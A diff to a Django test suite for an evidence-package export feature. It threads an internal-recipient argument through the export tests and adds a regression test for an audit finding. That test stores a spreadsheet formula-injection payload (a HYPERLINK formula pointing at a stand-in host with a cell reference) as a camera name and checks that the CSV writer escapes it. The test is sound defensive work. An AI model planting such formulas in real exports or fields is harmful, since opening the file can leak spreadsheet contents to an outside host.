@@ -13,6 +13,7 @@ from django.urls import reverse
 
 from apps.audit.models import AccessLog
 from apps.common.errors import ApplicationError
+from apps.disclosures.egress import INTERNAL_RECIPIENT
 from apps.holds.choices import ExportStatus, ScopeKind
 from apps.holds.exports import evidence_export_build
 from apps.holds.services import evidence_export_request, hold_approve
@@ -25,10 +26,10 @@ def test_evidence_package_is_built_hashed_and_its_download_logged(
     hold = hold_approve(actor=boss, hold=request_hold())
     assert hold.read_count == 4
     with django_capture_on_commit_callbacks(execute=False) as queued:
-        export = evidence_export_request(actor=detective, hold=hold)
+        export = evidence_export_request(actor=detective, hold=hold, recipient=INTERNAL_RECIPIENT)
     assert len(queued) == 1 and export.status == ExportStatus.QUEUED
     with pytest.raises(ApplicationError):
-        evidence_export_request(actor=detective, hold=hold)  # one at a time
+        evidence_export_request(actor=detective, hold=hold, recipient=INTERNAL_RECIPIENT)  # one at a time
     export = evidence_export_build(export_id=export.pk, actor=detective)
     assert export.status == ExportStatus.SUCCEEDED and export.read_count == 4
     log = AccessLog.objects.get(action="holds.export")
@@ -54,10 +55,14 @@ def test_evidence_package_is_built_hashed_and_its_download_logged(
     assert AccessLog.objects.filter(action="holds.export.download", user=detective).count() == 1
 
 
+def _internal(detective, hold):
+    return evidence_export_request(actor=detective, hold=hold, recipient=INTERNAL_RECIPIENT)
+
+
 def test_only_active_holds_are_exported(request_hold, detective):
     hold = request_hold(scope_kind=ScopeKind.SEARCH)
     with pytest.raises(ApplicationError) as raised:
-        evidence_export_request(actor=detective, hold=hold)
+        evidence_export_request(actor=detective, hold=hold, recipient=INTERNAL_RECIPIENT)
     assert raised.value.code == "export_hold_not_active"
 
 
@@ -65,7 +70,21 @@ def test_packages_of_hidden_holds_are_404(client, request_hold, boss, detective,
     from apps.accounts.roles import Role
 
     hold = hold_approve(actor=boss, hold=request_hold())
-    export = evidence_export_build(export_id=evidence_export_request(actor=detective, hold=hold).pk)
+    export = evidence_export_build(export_id=_internal(detective, hold).pk)
     client.force_login(make_user(Role.INVESTIGATOR, agency=agency))
     assert client.get(reverse("holds:export_download", args=[hold.pk, export.pk])).status_code == 404
     assert not AccessLog.objects.filter(action="holds.export.download").exists()
+
+
+def test_finding_4_a_camera_named_like_a_formula_is_text_in_the_evidence_csv(request_hold, detective, boss, camera):
+    """R-SHR-8: the evidence package's reads.csv goes through the one CSV writer."""
+    from apps.reads.models import Camera
+
+    formula = '=HYPERLINK("http://x"&A1,"Click")'
+    Camera.objects.filter(pk=camera.pk).update(name=formula)
+    hold = hold_approve(actor=boss, hold=request_hold())
+    export = evidence_export_build(export_id=_internal(detective, hold).pk, actor=detective)
+    with export.file.open("rb") as handle:
+        archive = zipfile.ZipFile(io.BytesIO(handle.read()))
+    rows = list(csv.DictReader(io.StringIO(archive.read("reads.csv").decode())))
+    assert rows and {row["camera"] for row in rows} == {"'" + formula}
